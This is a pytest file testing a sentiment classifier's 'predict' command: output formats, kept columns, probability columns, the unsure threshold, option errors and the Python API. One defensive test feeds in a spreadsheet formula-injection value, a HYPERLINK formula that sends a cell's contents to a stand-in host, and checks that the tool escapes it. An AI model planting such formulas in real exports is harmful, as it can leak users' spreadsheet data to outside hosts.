"""Tables through `predict`: columns kept, labels and probabilities added."""

import csv
import json
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import warmstart
from command_line import MACHINE, World, read_labelled_rows, refuse, succeed

NEW = ["label", "probability", "probability_negative", "probability_positive"]


@pytest.fixture
def reviews(world: World, here: Path) -> list[dict[str, Any]]:
    """Write the same ten reviews, one without text, in every format."""
    texts = [text for _, text in read_labelled_rows(world.test)[:10]]
    texts[3] = ""
    rows = [{"id": f"r{n}", "review": text, "stars": n} for n, text in enumerate(texts)]
    with (here / "in.csv").open("w", newline="") as stream:
        writer = csv.DictWriter(stream, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    (here / "in.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    pq.write_table(pa.Table.from_pylist(rows), here / "in.parquet")
    return rows


def _read(path: Path) -> list[dict[str, Any]]:
    if path.suffix == ".jsonl":
        return [json.loads(line) for line in path.read_text().splitlines()]
    if path.suffix == ".parquet":
        return pq.read_table(path).to_pylist()
    with path.open(newline="") as stream:
        return list(csv.DictReader(stream, delimiter="," if path.suffix == ".csv" else "\t"))


@pytest.mark.parametrize("out", ["out.csv", "out.tsv", "out.jsonl", "out.parquet"])
@pytest.mark.parametrize("file", ["in.csv", "in.jsonl", "in.parquet"])
def test_every_format_keeps_its_columns(
    file: str, out: str, warm: Path, reviews: list[dict[str, Any]], here: Path
) -> None:
    ran = succeed(f"predict {warm} {file} --columns text=review,label=sentiment -o {out}")
    assert f"wrote {out}" in ran.out
    rows = _read(here / out)
    assert [list(row) for row in rows] == [["id", "review", "stars", *NEW]] * len(reviews)
    assert [row["id"] for row in rows] == [row["id"] for row in reviews]
    plain = "\n".join(row["review"] for row in reviews)
    labels = succeed(f"predict {warm}", plain.encode()).out.splitlines()
    assert [row["label"] or "" for row in rows] == labels
    assert [rows[3][name] or None for name in NEW] == [None] * 4
    for row in (row for row in rows if row["label"]):
        shares = {name: float(row[f"probability_{name}"]) for name in ("negative", "positive")}
        assert sum(shares.values()) == pytest.approx(1, abs=2e-6)
        assert float(row["probability"]) == max(shares.values()) == shares[row["label"]]


def test_columns_with_the_same_names_are_kept(world: World, warm: Path, here: Path) -> None:
    ran = succeed(f"predict {warm} {world.test} -o out.csv")
    assert "begin with 'predicted_'" in ran.err
    rows = _read(here / "out.csv")
    assert [(row["label"], row["text"]) for row in rows] == read_labelled_rows(world.test)
    assert {row["predicted_label"] for row in rows} <= {"negative", "positive"}
    assert "'predicted_label'" in refuse(f"predict {warm} out.csv -o again.csv")
    assert not (here / "again.csv").exists()


def test_a_csv_keeps_its_delimiter(warm: Path, here: Path) -> None:
    (here / "in.csv").write_text("\ufeffnr;text\r\n1;a fine book, truly\r\n2;a book\r\n")
    succeed(f"predict {warm} in.csv -o out.csv")
    header, first, _ = (here / "out.csv").read_text().splitlines()
    assert header.split(";") == ["nr", "text", *NEW]
    assert first.startswith("1;a fine book, truly;")


def test_plain_lines_become_a_table(warm: Path, here: Path) -> None:
    succeed(f"predict {warm} -o out.csv", b"a book\nanother, longer one\n")
    assert [row["text"] for row in _read(here / "out.csv")] == ["a book", "another, longer one"]


def test_formulas_in_the_input_are_not_run_by_a_spreadsheet(warm: Path, here: Path) -> None:
    text = '=HYPERLINK("http://a.b/"&A1)'
    (here / "in.jsonl").write_text(json.dumps({"text": text}) + "\n")
    ran = succeed(f"predict {warm} in.jsonl -o out.csv {MACHINE}")
    assert "1 cell that a spreadsheet would run" in ran.err
    assert _read(here / "out.csv")[0]["text"] == f"'{text}"
    succeed(f"predict {warm} in.jsonl -o raw.csv --raw-cells {MACHINE}")
    assert _read(here / "raw.csv")[0]["text"] == text


def test_one_text_on_the_command_line(warm: Path) -> None:
    line = succeed(f"predict {warm}", b"A fine book.\n").out
    assert succeed(f"predict {warm} --text 'A fine book.'").out == line


def test_below_the_threshold_the_answer_is_unsure(world: World, warm: Path, here: Path) -> None:
    answers = succeed(f"predict {warm} {world.test} --json {MACHINE}").out.splitlines()
    shares = [json.loads(answer)["probability"] for answer in answers]
    threshold = sorted(shares)[12]
    command = f"predict {warm} {world.test} --threshold {threshold} {MACHINE}"
    ran = succeed(command)
    unsure = [label == "unsure" for label in ran.out.splitlines()]
    assert unsure == [share < threshold for share in shares]
    assert f"{sum(unsure)} of 24 below --threshold" in ran.err
    succeed(f"{command} -o out.jsonl")
    rows = _read(here / "out.jsonl")
    assert [row["predicted_label"] == "unsure" for row in rows] == unsure
    assert all(row["predicted_probability"] >= 0.5 for row in rows)


def test_a_class_called_unsure_cannot_have_a_threshold(
    world: World, base: Path, here: Path
) -> None:
    lines = [text for _, text in read_labelled_rows(world.train)]
    rows = [f"{text}\t{('unsure', 'sure')[n % 2]}\n" for n, text in enumerate(lines)]
    (here / "train.tsv").write_text("".join(rows))
    files = "--train train.tsv --valid train.tsv"
    succeed(f"finetune --from {base} {files} -o run --epochs 1 {MACHINE}")
    assert "'unsure'" in refuse("predict run --threshold 0.6 --text book")


@pytest.mark.parametrize(
    ("options", "reason"),
    [
        ("--text ''", "--text is empty"),
        ("--text a texts.txt", "--text and FILE"),
        ("--text2 a", "give --text too"),
        ("--threshold 1.5", "--threshold 1.5"),
        ("--text a -o out.csv.gz", "name out.csv"),
        ("--text a -o out.csv --json", "--json"),
        ("--text a --text2 b", "not on pairs"),
    ],
)
def test_options_that_make_no_sense(options: str, reason: str, warm: Path, here: Path) -> None:
    assert reason in refuse(f"predict {warm} {options}")
    assert not list(here.iterdir())


def test_python_gets_predictions_and_the_table(
    warm: Path, reviews: list[dict[str, Any]], here: Path
) -> None:
    columns = ("text=review",)
    answers = warmstart.predict(run=str(warm), file="in.csv", columns=columns, out="out.parquet")
    rows = _read(here / "out.parquet")
    assert [answer and answer.label for answer in answers] == [row["label"] for row in rows]
    assert answers[3] is None
    (answer,) = warmstart.predict(run=str(warm), text="A fine book.")
    assert answer.label in answer.probabilities
